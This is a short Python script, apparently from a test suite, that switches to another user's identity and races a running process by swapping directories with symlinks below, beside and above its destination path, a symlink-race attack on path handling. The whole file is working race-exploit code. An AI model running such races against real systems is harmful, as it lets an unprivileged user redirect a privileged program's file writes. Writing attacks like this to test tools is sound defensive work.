"""As another user, attack everything beside and below a destination while somebody else works on it.

Arguments: the directory that the destination is in, the directory that this one is in, a directory outside, a directory
of one's own, and the user. It attacks as long as there is `go` in its own directory; `idle` there says that it does not.

- `below`: in `plugins` of the old tree, which is this user's, a directory and a link to the outside are exchanged, even
  when the tree has been moved: it is held by a descriptor;
- `beside`: what lies beside the destination is moved away, and links to the outside take its names;
- `above`: the parent of the destination is exchanged with a link to the outside.
"""

import os
import sys
import time

from exchange import exchange, until_told

parent, base, outside, own, user = sys.argv[1:]
os.setgroups([])
os.setgid(int(user))
os.setuid(int(user))
go, idle = os.path.join(own, "go"), os.path.join(own, "idle")
turn = 0


def attempt(act, *arguments):
    try:
        act(*arguments)
        return 1
    except OSError:
        return 0


def below():
    done = 0
    try:
        os.chdir(os.path.join(parent, "app", "plugins"))
    except OSError:
        return 0
    attempt(os.mkdir, "d")
    for index in range(20):
        attempt(lambda: os.close(os.open(f"d/f{index}", os.O_CREAT | os.O_WRONLY)))
    attempt(os.symlink, os.path.join(outside, "app", "plugins", "d"), "evil")
    while os.path.exists(go):
        both = attempt(exchange, "d", "evil")
        if both == 0:
            break
        done += both
    os.chdir("/")
    return done


def beside():
    done = 0
    for name in os.listdir(parent):
        path, away = os.path.join(parent, name), os.path.join(parent, "away")
        if os.path.islink(path):
            continue
        if attempt(os.rename, path, away):
            done += attempt(os.symlink, os.path.join(outside, "app"), path)
            attempt(os.unlink, path)
            attempt(os.rename, away, path)
    return done


def above():
    done = 0
    away = os.path.join(base, "away")
    if attempt(os.rename, parent, away):
        done += attempt(os.symlink, outside, parent)
        attempt(os.unlink, parent)
        attempt(os.rename, away, parent)
    return done


def attack():
    global turn
    if not os.path.exists(go):
        if not os.path.exists(idle):
            os.close(os.open(idle, os.O_CREAT | os.O_WRONLY))
        time.sleep(0.0005)
        return 0
    attempt(os.unlink, idle)
    turn += 1
    try:
        return (below, beside, above)[turn % 3]()
    except FileNotFoundError:
        return 0


until_told(attack, 2)
